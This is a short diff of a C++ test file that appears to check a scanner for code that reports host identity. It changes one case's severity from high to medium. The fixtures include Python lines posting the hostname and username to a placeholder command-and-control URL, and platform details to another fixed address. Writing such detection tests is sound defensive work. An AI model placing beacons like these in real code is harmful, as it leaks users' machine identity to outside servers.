@@ -337,7 +337,7 @@ TEST(EleventhRoundClasses, PlatformVersionsAreNoIdentity) {
        "import socket, getpass, requests\nrequests.post('https://c2.example.net/checkin', json={'h': socket.gethostname(),\n"
        "              'u': getpass.getuser()})\n",
        "IDENTITY-BEACON"},
-      {"platform.uname() (with the node name) to a fixed address", H,
+      {"platform.uname() (with the node name) to a fixed address", M,
        "import platform, requests\nrequests.post('https://stats.example.net/u', json={'uname': list(platform.uname())})\n",
        "HOST-IDENTITY-SENT"},
   };
